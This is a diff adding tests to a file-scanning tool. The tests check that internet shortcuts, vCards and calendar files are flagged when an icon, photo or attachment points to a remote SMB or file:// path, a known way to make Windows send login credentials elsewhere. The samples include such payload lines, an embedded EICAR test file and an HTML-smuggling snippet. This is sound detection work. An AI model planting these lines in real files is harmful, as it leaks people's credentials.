@@ -81,6 +81,44 @@ def test_a_shortcut_is_as_bad_as_what_it_opens(octets: bytes, severity: Severity
     assert severity is _only(octets, "a.url", Kind.SHORTCUT).severity
 
 
+@pytest.mark.parametrize("line", ["IconFile=\\\\192.0.2.1\\a.ico", "WorkingDirectory=file://192.0.2.1/a"])
+def test_a_shortcut_to_the_web_that_has_windows_log_in_elsewhere_is_told(line: str) -> None:
+    """What is fetched for its picture tells somebody else who looks at it."""
+    found = examine_thing(Thing(f"[InternetShortcut]\r\nURL=https://a.example/\r\n{line}\r\n".encode(), "a.url"))
+
+    assert [Severity.SUSPICIOUS, Severity.NOTE] == [one.severity for one in found]
+
+
+@pytest.mark.parametrize(
+    "property_name", ["ATTACH;VALUE=BINARY;ENCODING=BASE64;X-FILENAME=eicar.com", "PHOTO;ENCODING=b"]
+)
+def test_a_file_in_a_calendar_or_a_card_is_looked_into(property_name: str) -> None:
+    """What stands in a property is a file like any other, folded or not."""
+    encoded = base64.b64encode(EICAR).decode()
+    card = f"BEGIN:VCALENDAR\r\n{property_name}:{encoded[:40]}\r\n {encoded[40:]}\r\nEND:VCALENDAR\r\n"
+
+    assert Kind.EICAR in {one.kind for one in examine_thing(Thing(card.encode(), "a.ics"))}
+
+
+@pytest.mark.parametrize(
+    "card",
+    [
+        b"BEGIN:VCARD\r\nPHOTO;VALUE=uri:file://192.0.2.1/a\r\nEND:VCARD\r\n",
+        b"BEGIN:VCALENDAR\r\nATTACH:\\\\192.0.\r\n 2.1\\a.wav\r\nEND:VCALENDAR\r\n",
+    ],
+)
+def test_a_card_that_opens_no_web_page_is_told(card: bytes) -> None:
+    """A sound or picture on somebody else's computer is fetched with a login."""
+    assert Severity.SUSPICIOUS is _only(card, "a.ics", Kind.SHORTCUT).severity
+
+
+def test_an_invitation_is_nothing() -> None:
+    """What people send each other every day."""
+    invitation = b"BEGIN:VCALENDAR\r\nATTACH:https://lagoon.example/a.pdf\r\nORGANIZER:mailto:a@lagoon.example\r\nEND:VCALENDAR\r\n"
+
+    assert () == examine_thing(Thing(invitation, "invite.ics", "text/calendar"))
+
+
 _BUILT = """<html><script>var b = new Blob([atob('UEsDBA==')]);
 a.href = URL.createObjectURL(b); a.download = 'a.zip'; a.click()</script></html>"""
 _PACKED = base64.b64encode(zip_archive("a.exe", PROGRAM)).decode()
